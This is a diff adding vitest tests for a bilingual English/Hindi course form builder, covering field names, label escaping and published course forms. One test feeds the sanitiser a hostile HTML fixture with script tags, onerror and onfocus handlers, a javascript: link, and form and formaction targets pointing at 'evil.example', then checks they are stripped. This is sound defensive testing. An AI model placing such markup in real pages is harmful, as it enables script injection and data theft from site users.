@@ -1,0 +1,84 @@
+import { expect, test } from "vitest";
+import { languages } from "../../i18n/language";
+import { loadContent } from "../load";
+import { type FormQuestion, formOf } from "./form";
+import { editForm, visitControls } from "./form-html";
+
+const options = [
+  { id: "yes", en: "Yes", hi: "हाँ" },
+  { id: "no", en: "No & never", hi: "नहीं" },
+];
+const questions: FormQuestion[] = [
+  { type: "text", id: "a-text", en: 'What is "1 < 2"?', hi: "क्या?" },
+  { type: "textarea", id: "b-long", en: "Tell us", hi: "बताएँ" },
+  { type: "radio", id: "c-radio", en: "Which?", hi: "कौन-सा?", options },
+  { type: "checkbox", id: "d-checkbox", en: "Which ones?", hi: "कौन-कौन-से?", options },
+  { type: "select", id: "e-select", en: "Choose", hi: "चुनें", options },
+];
+
+/** The names and values of a form's fields: what it sends. */
+function fieldsOf(html: string): string[] {
+  const fields: string[] = [];
+  editForm(html, (tree) => visitControls(tree, ({ tagName, properties }, name) => fields.push(`${tagName} ${name} ${properties.value ?? ""}`.trim())));
+  return fields;
+}
+
+test("names and values of the fields are the same in both languages, the words are not", () => {
+  const { html } = formOf(questions);
+  expect(fieldsOf(html.en)).toEqual(fieldsOf(html.hi));
+  expect(fieldsOf(html.en)).toEqual([
+    "input a-text",
+    "textarea b-long",
+    "input c-radio yes",
+    "input c-radio no",
+    "input d-checkbox yes",
+    "input d-checkbox no",
+    "select e-select",
+  ]);
+  expect(html.en).not.toContain("disabled");
+  expect(html.hi).toContain('<option value="yes">हाँ</option>');
+});
+
+test("every field has its label, and signs in a label are text", () => {
+  const { html } = formOf(questions);
+  expect(html.en).toContain('<label class="survey-label" for="survey-a-text">What is "1 &#x3C; 2"?</label>');
+  expect(html.en).toContain('<legend class="survey-label">Which?</legend>');
+  expect(html.en).toContain("No &#x26; never");
+});
+
+test("nothing but fields comes through, whoever wrote the form", () => {
+  const hostile = `<form action="https://evil.example"><script>steal()</script><style>*{}</style><iframe src="//evil.example"></iframe>
+    <input type="image" src="x" onerror="steal()" name="q" formaction="//evil.example"><input type="hidden" name="language" value="xx">
+    <button formaction="//evil.example">Go</button><a href="javascript:steal()">a</a><textarea name="t" onfocus="steal()" autofocus style="x"></textarea></form>`;
+  const html = editForm(hostile);
+  expect(html).not.toMatch(/<form|script|<style|iframe|evil|onerror|onfocus|style=|<button|href|hidden|image|steal/);
+  expect(html).toContain('<textarea name="t">');
+});
+
+test("the published forms are of fields with labels in both languages", () => {
+  const { courses } = loadContent("content");
+  const forms = courses.flatMap((course) => [course.feedbackForm, ...course.topics.flatMap((topic) => topic.pages.map((page) => page.form))]);
+  const published = forms.filter((form) => form !== null);
+  expect(published.length).toBeGreaterThan(4);
+  for (const form of published) {
+    expect(fieldsOf(form.html.en)).toEqual(fieldsOf(form.html.hi));
+    for (const language of languages) for (const question of form.questions) expect(form.html[language]).toContain(`name="${question.id}"`);
+  }
+});
+
+test("every completion value occurs, and a video page and resources in each course", () => {
+  const { courses } = loadContent("content");
+  const values = new Set(courses.flatMap((course) => course.topics.map((topic) => topic.completion.join(", ") || "Ungraded")));
+  expect([...values].sort()).toEqual(["Quiz", "Quiz, Discussion", "Quiz, Reflective Journal", "Ungraded", "formSubmit"].sort());
+  for (const course of courses) {
+    expect(
+      course.topics.some((topic) => topic.pages.some((page) => page.video)),
+      course.id,
+    ).toBe(true);
+    expect(
+      course.modules.every((module) => module.resources.length > 0),
+      course.id,
+    ).toBe(true);
+    expect(course.feedbackForm, course.id).not.toBeNull();
+  }
+});
